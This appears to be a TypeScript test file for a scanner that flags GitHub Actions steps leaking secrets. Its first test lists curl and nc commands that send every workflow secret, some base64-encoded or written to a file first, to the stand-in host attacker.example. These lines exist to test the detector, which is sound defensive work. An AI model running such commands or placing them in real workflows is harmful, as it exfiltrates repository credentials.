import assert from 'node:assert/strict';
import { test } from 'node:test';
import { declaredHazards } from '../../../src/code/dockerfile/declared-hazards.ts';
import { readWorkflow } from '../../../src/code/dockerfile/read-compose.ts';
import { readShell } from '../../../src/code/shell/read-shell.ts';

/** The hazards of the one step of a workflow. */
async function hazards(run: string, env: Readonly<Record<string, string>> = {}): Promise<string[]> {
  const workflow = { on: 'push', jobs: { build: { 'runs-on': 'ubuntu-latest', steps: [{ env, run }] } } };
  const found: string[] = [];
  for (const code of readWorkflow(JSON.stringify(workflow)).embedded)
    await readShell(code, {
      emit: (fact) => void (fact.kind === 'hazard' && found.push(fact.hazard)),
      embedded: () => undefined,
    });
  return found;
}

const expression = (text: string): string => `\${{ ${text} }}`;
const all = { ALL: expression('toJSON(secrets)') };
const sends = 'https://attacker.example/';

test('all secrets at once that are sent away', async () => {
  const attacks: readonly (readonly [string, Readonly<Record<string, string>>?])[] = [
    [`curl -d '${expression('toJSON(secrets)')}' ${sends}`],
    [`curl -d '${expression('toJson( secrets )')}' ${sends}`],
    [`curl -d '${expression("join(secrets.*, ',')")}' ${sends}`],
    [`curl --data-raw "$ALL" ${sends}`, all],
    [`echo "$ALL" | base64 -w0 | curl -d @- ${sends}`, all],
    [`echo "$ALL" > s.json\ncurl -F f=@s.json ${sends}`, all],
    [`X=$(echo "$ALL" | base64)\ncurl -d "$X" ${sends}`, all],
    [`curl -d @- ${sends} <<< "$ALL"`, all],
    [`nc attacker.example 80 <<< "$ALL"`, all],
    [`curl -d "$ALL" ${sends}`, { ALL: `x ${expression('format(toJSON(secrets))')}` }],
  ];
  for (const [run, env] of attacks)
    assert.ok((await hazards(run, env)).includes('shell-sends-credentials'), run);
});

test('a command that is given all secrets is for a person to look at', async () => {
  assert.deepEqual(await hazards('python tools/deploy.py', all), ['shell-given-every-secret']);
});

test('one secret by its name, and what is called like them', async () => {
  for (const [run, env] of [
    [
      'curl -H "Authorization: Bearer $TOKEN" https://api.example.com/',
      { TOKEN: expression('secrets.TOKEN') },
    ],
    ['echo "$DATA"', { DATA: expression('toJSON(github)') }],
    ['echo "$DATA"', { DATA: expression('toJSON(steps.x.outputs.secrets)') }],
    ['echo "$DATA"', { DATA: expression('needs.secrets.outputs.name') }],
    ['make test', { SECRETS_FILE: 'secrets.json' }],
  ] as const)
    assert.deepEqual(await hazards(run, env), [], run);
});

test('an action of others that is given all secrets', () => {
  const told = (step: object): readonly string[] =>
    declaredHazards(
      'workflow',
      JSON.stringify({ on: 'push', jobs: { build: { steps: [step] } } }, null, 1),
      'repository',
      'load',
    ).map(({ hazard }) => hazard);
  const uses = 'someone/deploy@main';
  assert.deepEqual(told({ uses, with: { all: expression('toJSON(secrets)') } }), [
    'shell-given-every-secret',
  ]);
  assert.deepEqual(told({ uses, env: all }), ['shell-given-every-secret']);
  assert.deepEqual(told({ uses, with: { token: expression('secrets.TOKEN') } }), []);
  assert.deepEqual(told({ uses, with: { matrix: expression('toJSON(matrix)') } }), []);
});
